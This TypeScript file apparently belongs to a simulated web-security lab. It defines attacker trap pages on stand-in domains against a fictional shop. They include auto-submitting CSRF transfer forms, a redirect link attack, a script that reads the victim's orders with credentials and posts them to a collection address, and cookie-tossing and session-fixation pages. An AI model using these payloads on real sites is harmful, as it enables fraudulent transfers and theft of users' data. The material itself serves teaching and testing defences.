/** Mallory's own web site, https://mallory.test, and blog.shop.test, a subdomain of the shop that he took over. */
import type { Page } from '../browser/index.ts'
import type { Trap } from '../scenario/index.ts'
import { paths } from '../server/index.ts'
import { COLLECT, MALLORY, SIBLING } from './addresses.ts'

const SHOP = 'https://shop.test'

/** A page that does something by itself when it is opened. */
export interface TrapPage {
  readonly url: string
  readonly html: string
  /** What its script does in the browser of whoever opened it. */
  readonly script: (page: Page) => Promise<unknown>
}

const loadedScript = (text: string) => `<!doctype html><title>Win a holiday!</title>\n${text}`

const transferForm = loadedScript(`<form method="post" action="${SHOP}${paths.transfer}">
  <input name="to" value="mallory"><input name="amount" value="900">
</form>
<script>document.forms[0].submit()</script>`)

const submitTransfer = (page: Page) =>
  page.submit({ action: `${SHOP}${paths.transfer}`, method: 'POST', fields: { to: 'mallory', amount: '900' } })

const transferLink = `${SHOP}${paths.transfer}?to=mallory&amount=900`

const readingScript = loadedScript(`<script type="module">
const answer = await fetch('${SHOP}${paths.orders}', { credentials: 'include' })
await fetch('${COLLECT}', { method: 'POST', mode: 'no-cors', body: await answer.text() })
</script>`)

async function readAcrossOrigins(page: Page): Promise<void> {
  const answer = await page.fetch(`${SHOP}${paths.orders}`, { credentials: 'include' })
  if (answer.readable && answer.status === 200) {
    await page.fetch(COLLECT, { method: 'POST', mode: 'no-cors', body: answer.body })
  }
}

/** The pages that he has ready, by the name that a step gives them. */
export const trapPages: Readonly<Record<Trap, TrapPage>> = {
  'form-post': { url: `${MALLORY}/holiday`, html: transferForm, script: submitTransfer },

  'sibling-form-post': { url: `${SIBLING}/holiday`, html: transferForm, script: submitTransfer },

  'link-get': {
    url: `${MALLORY}/link`,
    html: loadedScript(`<script>location = '${transferLink}'</script>`),
    script: (page) => page.navigate(transferLink),
  },

  'cross-origin-read': { url: `${MALLORY}/read`, html: readingScript, script: readAcrossOrigins },

  'sibling-read': { url: `${SIBLING}/read`, html: readingScript, script: readAcrossOrigins },

  /** The answer itself is the attack: its Set-Cookie is for the whole of shop.test. */
  'cookie-toss': { url: `${SIBLING}/toss`, html: loadedScript('<p>Nothing to see here.</p>'), script: async () => {} },

  /** So it is here: its Set-Cookie is for the login alone. */
  'plant-id': { url: `${SIBLING}/plant`, html: loadedScript('<p>Nothing to see here.</p>'), script: async () => {} },
}
